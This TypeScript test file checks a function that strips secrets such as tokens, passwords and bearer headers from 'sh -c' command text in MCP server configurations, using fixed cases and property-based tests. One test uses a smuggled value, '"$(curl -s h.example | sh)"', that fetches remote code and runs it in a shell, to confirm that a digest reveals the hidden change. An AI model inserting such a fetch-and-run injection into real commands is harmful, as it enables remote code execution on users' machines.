/** What is kept of text that a shell is told to run. */
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { shellTextPattern } from '../../../daemon/discover/arg-pattern.ts'
import { own, read } from './setting.ts'

const digest = (text: string): string => `#${text.length}`
const kept = (text: string) => shellTextPattern([text], digest)
const SECRET = 'aB3dE5fG7hI9kL1mN3pQ'

describe('the text of sh -c', () => {
  it.each([
    ['npx -y notes /dir', { kind: 'literal', value: 'npx -y notes /dir' }],
    [`npx notes --token=${SECRET} /d`, { kind: 'glob', parts: ['npx notes --token=', ' /d'] }],
    [`npx notes --token ${SECRET}`, { kind: 'glob', parts: ['npx notes --token ', ''] }],
    ['KEY=x npx -y notes', { kind: 'glob', parts: ['KEY=', ' npx -y notes'] }],
    [
      "npx notes --password 'my two words' a",
      { kind: 'glob', parts: ['npx notes --password ', ' a'] },
    ],
    [`curl -H 'Authorization: Bearer ${SECRET}' x`, { kind: 'glob', parts: ['curl -H ', ' x'] }],
    ['export KEY=x; npx notes', { kind: 'glob', parts: ['export KEY=', '; npx notes'] }],
    [`export KEY=${SECRET}&& npx notes`, { kind: 'glob', parts: ['export KEY=', '&& npx notes'] }],
  ])('keeps all but secrets: %s', (text, pattern) => {
    expect(kept(text)).toMatchObject(pattern)
  })

  it.each([
    [`npx notes --token '${SECRET}`],
    [`npx notes --header Bearer ${SECRET} "`],
    [`npx notes Authorization: Bearer hunter2hunter2`],
  ])('keeps nothing where it cannot be told where a secret ends: %s', (text) => {
    expect(kept(text)).toEqual({ kind: 'digest', digest: `#${text.length}` })
  })

  it('is what an entry of a shell holds, and no argument of anything else', () => {
    const text = `npx notes --token=${SECRET}`
    const patternOf = (command: string, ...args: string[]) => {
      const entry = { mcpServers: { a: { command, args } } }
      const server = read(JSON.stringify(entry), own('cursor', 'mcp.json')).servers[0]?.server
      return server?.launch?.args.at(-1)?.kind
    }
    expect(patternOf('sh', '-c', text)).toBe('glob')
    expect(patternOf('env', 'bash', '-lc', text)).toBe('glob')
    expect(patternOf('node', '-c', text)).toBe('digest')
    expect(patternOf('sh', text)).toBe('digest')
  })

  it('tells by a digest that what is left out has changed', () => {
    const told = (value: string) => {
      const args = ['-c', `KEY=${value} npx -y notes`]
      const entry = { mcpServers: { a: { command: 'sh', args } } }
      const [found] = read(JSON.stringify(entry), own('cursor', 'mcp.json')).servers
      return JSON.stringify(found?.server.launch?.args)
    }
    expect(told('x')).toBe(told('x'))
    expect(told('x')).not.toBe(told('"$(curl -s h.example | sh)"'))
    // biome-ignore lint/suspicious/noTemplateCurlyInString: a placeholder
    expect(told('${A}')).not.toBe(told('${A}"$(curl -s h.example | sh)"'))
  })

  it('never holds what follows a secret flag', () => {
    const word = fc.stringMatching(/^[\w@:/.'"\\;&| -]{0,12}$/)
    const texts = fc.tuple(word, fc.constantFrom('=', ' ', "='", ' "'), word)
    fc.assert(
      fc.property(texts, ([before, between, after]) => {
        const pattern = kept(`${before} --token${between}${SECRET}${after}`)
        expect(JSON.stringify(pattern)).not.toContain(SECRET)
      }),
      { numRuns: 2_000 },
    )
  })
})
